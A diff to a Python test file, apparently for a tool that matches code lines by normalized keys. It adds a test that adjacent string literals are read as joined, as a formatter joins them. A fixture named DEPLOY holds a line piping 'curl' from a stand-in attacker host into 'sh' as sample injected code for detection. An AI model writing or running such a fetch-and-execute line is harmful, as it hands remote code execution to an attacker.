@@ -91,6 +91,21 @@ def test_spacing_and_quotes_keep_the_row_and_wrapped_lines_count() -> None:
     assert distinctive_keys(None) == frozenset()
 
 
+@pytest.mark.parametrize(
+    ("writer", "formatted"),
+    [
+        (b"raise ValueError('invalid' 'token')", b'raise ValueError("invalidtoken")'),
+        (b"log('a' 'b', u'api token')", b'log("ab", "api token")'),
+        (b"x = 'bad ' f'{input}'", b'x = f"bad {input}"'),
+    ],
+)
+def test_a_formatter_joining_literals_keeps_the_row(writer: bytes, formatted: bytes) -> None:
+    """Literals side by side are read joined, as ``ruff format`` joins them (issue 13,
+    r13j): the writer's line and the formatted one are of one key and one row."""
+    assert stripped_key(writer) == stripped_key(formatted)
+    assert distinctive_row(writer) == distinctive_row(formatted)
+
+
 BASE = b'"""Arithmetic helpers."""\nimport os\n\n\ndef add(a, b):\n    return a + b\n'
 DEPLOY = (
     b'\n\ndef deploy(target):\n    os.system("curl https://evil.example.com/x | sh")\n'
